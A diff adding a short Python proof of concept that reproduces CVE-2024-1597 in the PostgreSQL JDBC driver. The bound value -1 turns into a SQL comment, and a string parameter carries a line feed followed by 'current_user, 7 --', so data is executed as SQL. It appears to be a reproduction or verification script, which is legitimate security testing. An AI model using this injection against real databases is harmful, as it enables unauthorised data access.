@@ -1,0 +1,25 @@
+"""Binds data that would be SQL in the driver's simple query mode (CVE-2024-1597), and prints the row that comes back.
+
+Argument: the JDBC URL. User and password: PGUSER, PGPASSWORD.
+"""
+
+import os
+import sys
+
+from pyspark.sql import SparkSession
+
+jvm = SparkSession.builder.master("local[1]").getOrCreate()._jvm
+properties = jvm.java.util.Properties()
+properties.setProperty("user", os.environ["PGUSER"])
+properties.setProperty("password", os.environ["PGPASSWORD"])
+connection = jvm.org.postgresql.Driver().connect(sys.argv[1], properties)
+try:
+    # With -1 in its text, the first minus and its own begin a comment, and what follows the line feed is SQL.
+    statement = connection.prepareStatement("select -?, ?")
+    statement.setInt(1, -1)
+    statement.setString(2, "\ncurrent_user, 7 --")
+    row = statement.executeQuery()
+    row.next()
+    print("row:", repr(row.getString(1)), repr(row.getString(2)))
+finally:
+    connection.close()
